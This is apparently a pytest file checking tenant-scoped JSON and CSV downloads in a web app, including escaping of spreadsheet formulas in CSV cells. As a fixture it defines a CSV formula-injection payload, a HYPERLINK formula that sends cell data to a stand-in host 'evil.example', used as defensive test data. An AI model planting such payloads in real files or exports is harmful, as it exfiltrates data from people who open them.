"""Downloads: the manifest, payload and request of an assembly as JSON files; the /why/ results and
a run's timeline as CSV and JSON. Each is tenant-scoped like its page: another tenant's user gets
404, and no row of another tenant appears even when both tenants hold a run with the same id.
CSV parses back (quotes, commas, line breaks) and no text cell can start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from ctxeng.accounts.models import Tenant
from ctxeng.engine.hashing import sha256_text
from manifests.examples import example_json, example_text
from manifests.exports import csv_cell
from manifests.models import Manifest, ManifestItem
from manifests.selectors import manifest_document
from policies.services import policy_import

from .conftest import run_job

HOSTILE_REF = {"note": '=HYPERLINK("http://evil.example/?"&A1,"click"), with "quotes"\nand a line break'}
HOSTILE_ID = "+plan-42-r4-formula"


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(_body(response).decode())))


@pytest.fixture
def formula_job(example):
    """A step whose excluded stale plan carries a formula-looking id and source ref."""
    request = example_json("request.json")
    request["step_id"] = "step-formula"
    for candidate in request["candidates"]:
        if candidate["item_id"] == "plan-42-r4":
            candidate["item_id"] = HOSTILE_ID
            candidate["source_ref"] = {**candidate["source_ref"], **HOSTILE_REF}
    return run_job(example["owner"], request, "formula")


@pytest.fixture
def other_tenant_run(example):
    """tenant-o holds its own run-42 (the outsider's), with an item id only it has."""
    tenant = Tenant.objects.get(slug="tenant-o")
    policy_import(tenant=tenant, text=example_text("policy.yaml"), user=example["outsider"], publish=True, note="o")
    request = json.loads(json.dumps(example_json("request.json")).replace("tenant-x", "tenant-o"))
    content = "tenant-o only"
    template = next(c for c in request["candidates"] if c["item_id"] == "evidence-pi-transform-context")
    request["candidates"].append({**template, "item_id": "only-in-tenant-o", "content": content,
                                  "content_hash": sha256_text(content)})
    return run_job(example["outsider"], request, "tenant-o")


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), (-5, -5), (3, 3), (None, ""), (True, "true"),
    ({"b": "=x", "a": 1}, '{"a":1,"b":"=x"}'), (["-"], '["-"]'),
])
def test_a_text_cell_never_starts_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_the_manifest_payload_and_request_download_as_json(owner_client, example):
    job = example["ready"]
    for document in ("manifest", "payload", "request"):
        response = owner_client.get(f"/assemblies/{job.id}/export/{document}.json")
        assert response.status_code == 200 and response["Content-Type"].startswith("application/json")
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment; filename=\"run-42-step-19-") and disposition.endswith(f'-{document}.json"')
        parsed = json.loads(response.content)
        if document == "manifest":
            assert parsed == manifest_document(Manifest.objects.get(job=job))
        elif document == "request":
            assert parsed == example_json("request.json")
        else:
            assert {m["role"] for m in parsed["messages"]} >= {"system", "user"}


def test_the_manifest_page_links_its_downloads(owner_client, example):
    body = owner_client.get(f"/assemblies/{example['ready'].id}/").content.decode()
    for document in ("manifest", "payload", "request"):
        assert f'href="/assemblies/{example["ready"].id}/export/{document}.json" download' in body
    blocked = owner_client.get(f"/assemblies/{example['blocked'].id}/").content.decode()
    assert "/export/manifest.json" in blocked and "/export/payload.json" not in blocked


def test_a_blocked_assembly_has_no_payload_to_download(owner_client, example):
    assert owner_client.get(f"/assemblies/{example['blocked'].id}/export/payload.json").status_code == 404
    assert owner_client.get(f"/assemblies/{example['blocked'].id}/export/manifest.json").status_code == 200
    assert owner_client.get(f"/assemblies/{example['ready'].id}/export/secrets.json").status_code == 404


def test_another_tenants_user_downloads_nothing(outsider_client, example, other_tenant_run):
    for document in ("manifest", "payload", "request"):
        assert outsider_client.get(f"/assemblies/{example['ready'].id}/export/{document}.json").status_code == 404
    # the outsider's own run-42 is theirs: only their rows
    rows = _csv(outsider_client.get("/runs/run-42/timeline.csv"))
    assert {row["assembly"] for row in rows} == {str(other_tenant_run.id)}
    assert "only-in-tenant-o" in {row["item_id"] for row in rows}
    found = json.loads(_body(outsider_client.get("/why/export.json", {"q": "plan-42", "decision": ""})))
    assert found["rows"] and {row["tenant"] for row in found["rows"]} == {"tenant-o"}


def test_the_timeline_downloads_every_step_and_item_of_the_tenants_run_only(owner_client, example, other_tenant_run):
    rows = _csv(owner_client.get("/runs/run-42/timeline.csv"))
    jobs = [example[name] for name in ("ready", "blocked", "hostile")]
    expected = {(str(job.id), item.item_id, item.decision) for job in jobs
                for item in ManifestItem.objects.filter(manifest__job=job)}
    assert {(row["assembly"], row["item_id"], row["decision"]) for row in rows} == expected
    assert len(rows) == len(expected) and "only-in-tenant-o" not in {row["item_id"] for row in rows}
    attempts = {(row["step_id"], row["attempt"]) for row in rows}
    assert attempts == {("step-19", "1"), ("step-20", "1"), ("step-20", "2")}
    document = json.loads(_body(owner_client.get("/runs/run-42/timeline.json")))
    assert document["run_id"] == "run-42" and document["tenant"] == "tenant-x"
    assert [{k: str(v) if v is not None else "" for k, v in row.items()} for row in document["rows"]] == [
        {k: v for k, v in row.items()} for row in rows]


def test_the_why_results_download_as_csv_and_json(owner_client, example, formula_job):
    query = {"q": "plan-42-r", "decision": ""}  # item ids only: the plans' source refs name plan-42
    page = owner_client.get("/why/", query).content.decode()
    assert '/why/export.csv?q=plan-42-r&amp;decision=" download' in page
    rows = _csv(owner_client.get("/why/export.csv", query))
    document = json.loads(_body(owner_client.get("/why/export.json", query)))
    assert document["query"] == {"q": "plan-42-r", "reason": "", "decision": ""}
    expected = ManifestItem.objects.filter(manifest__job__tenant__slug="tenant-x", entry__item_id__icontains="plan-42-r")
    assert len(rows) == len(document["rows"]) == expected.count() > 0
    assert {row["tenant"] for row in rows} == {"tenant-x"}
    hostile = next(row for row in rows if row["item_id"] == "'" + HOSTILE_ID)
    assert json.loads(hostile["source_ref"].removeprefix("'"))["note"] == HOSTILE_REF["note"]
    assert next(r for r in document["rows"] if r["item_id"] == HOSTILE_ID)["source_ref"]["note"] == HOSTILE_REF["note"]
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_a_why_download_needs_a_search(owner_client, example):
    response = owner_client.get("/why/export.csv")
    assert response.status_code == 400 and b"Search first" in response.content
    assert owner_client.get("/why/export.xlsx", {"q": "plan"}).status_code == 404
